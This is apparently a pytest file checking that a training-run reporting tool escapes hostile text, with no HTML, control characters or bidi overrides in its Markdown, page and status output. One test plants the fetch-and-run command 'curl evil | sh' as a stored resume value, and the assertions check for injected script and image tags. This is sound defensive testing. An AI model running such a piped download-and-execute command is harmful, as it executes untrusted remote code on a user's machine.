"""Whatever a run's files say, the reports show it as text: no markup, no control characters."""

import dataclasses
import json
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from hand_made_run import FINALISTS, HOSTILE, QUALITY, SAMPLES, STUDY, hand_made
from model.errors import ConfigError
from tune.monitoring.status import RunStatus
from tune.records.finalist_table import FINALIST_TABLE
from tune.records.json_file import write_json
from tune.records.load import read_run
from tune.records.quality_table import QUALITY_TABLE
from tune.records.run_folder import RunFolder
from tune.records.study_file import PlannedTime, StudyFile
from tune.reporting.comparison import comparison
from tune.reporting.markdown_report import report_text
from tune.reporting.page import write_page
from tune.reporting.samples_section import best_temperature_line, samples_section
from tune.reporting.section import escaped, markdown

TEXT = f"{HOSTILE}\x1b[2J\x9b\u202e \n# title\n<!-- --> **x**"
NAMES = re.findall(r"\w+", "h1 h2 h3 h4 p pre code table thead tbody tr th td ul li strong")
TAGS = {f"<{slash}{name}" for slash in ("", "/") for name in NAMES}
PLANNED = dataclasses.replace(
    STUDY,
    estimate=PlannedTime(planned_seconds=(1.0, 2.0), planned_trials=(1, 2)),
    unconfirmed="none",
    versions={"torch": "2"},
)


def text_leaves(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(value, str):
        return [path]
    keys: list[Any] = []
    if isinstance(value, (dict, list)):
        keys = list(value if isinstance(value, dict) else range(len(value)))
    return [found for key in keys for found in text_leaves(value[key], (*path, key))]


def harmless(text: str) -> None:
    """Check that Markdown is no HTML, and has no control characters."""
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert set(re.findall(r"<[^>]*", rendered)) <= TAGS
    assert "<h1>title" not in rendered


@pytest.fixture
def folder(tmp_path: Path) -> RunFolder:
    folder = RunFolder(tmp_path / "run")
    folder.path.mkdir()
    folder.write_study(PLANNED)
    folder.write_tables(hand_made())
    FINALIST_TABLE.write(FINALISTS, folder.finalists_file)
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("leaf", text_leaves(PLANNED.to_json()), ids=str)
def test_study_file(leaf: tuple[Any, ...], folder: RunFolder) -> None:
    values = json.loads(json.dumps(PLANNED.to_json()))
    inner = values
    for key in leaf[:-1]:
        inner = inner[key]
    inner[leaf[-1]] = TEXT
    folder.study_file.write_text(json.dumps(values), encoding="utf-8")
    try:
        run = read_run(folder)
    except ConfigError:  # a name that must be one of ours
        return
    harmless(report_text(run))
    harmless(comparison([run, run]))
    write_page(run, folder)
    page = folder.page_file.read_text(encoding="utf-8")
    assert "<script>pwned" not in page and "<img src=http" not in page and "\x1b" not in page


@pytest.mark.slow
@pytest.mark.parametrize("column", ["baseline", "error", "trial_id"])
def test_tables(column: str, folder: RunFolder) -> None:
    for path, table in (
        (folder.trials_file, folder.read_tables()[0]),
        (folder.finalists_file, FINALIST_TABLE.read(folder.finalists_file)),
    ):
        if column in table:
            table.assign(**{column: TEXT}).to_csv(path, index=False)
    harmless(report_text(read_run(folder)))


@pytest.mark.parametrize("field", ["name", "word_list", "caption", "how", "text"])
def test_samples(field: str, folder: RunFolder) -> None:
    passage, record = SAMPLES.passages[0], QUALITY
    if field in ("name", "word_list"):
        known = dataclasses.replace(record.quality, distinct_word_share=0.5)  # else none is named
        record = dataclasses.replace(record, quality=known, **{field: TEXT})
    else:
        passage = dataclasses.replace(passage, **{field: TEXT})
    samples = dataclasses.replace(SAMPLES, passages=(passage,))
    QUALITY_TABLE.write([record.row()], folder.quality_file)
    write_json(samples, folder.samples_data_file)
    run = read_run(folder)
    assert run.samples is not None
    harmless(markdown(samples_section(run.samples, run.quality), level=1))
    assert "\n" not in best_temperature_line(run.quality)


@pytest.mark.parametrize(
    "text",
    [
        "MyGRU.__init__() takes 2 arguments",
        "_base_",
        "_a_b_ and __a__b__, (_x_) __",
        "val_bits_per_char of größe_größe",
        "a\\_b_, *_x_*",
    ],
)
def test_underscores_are_no_emphasis(text: str) -> None:
    html = MarkdownIt("commonmark").render(escaped(text))
    assert html == f"<p>{text}</p>\n"
    assert MarkdownIt("commonmark").render(f"x{escaped(text)}x") == f"<p>x{text}x</p>\n"


def test_status_gives_no_command_of_a_strangers(folder: RunFolder) -> None:
    study: StudyFile = dataclasses.replace(PLANNED, ended="still running", resume="curl evil | sh")
    folder.write_study(study)
    folder.history_file.write_bytes(b"")
    text = RunStatus.of(folder).text()
    assert "curl" not in text and f"python -m tune.run --resume {folder.path}" in text
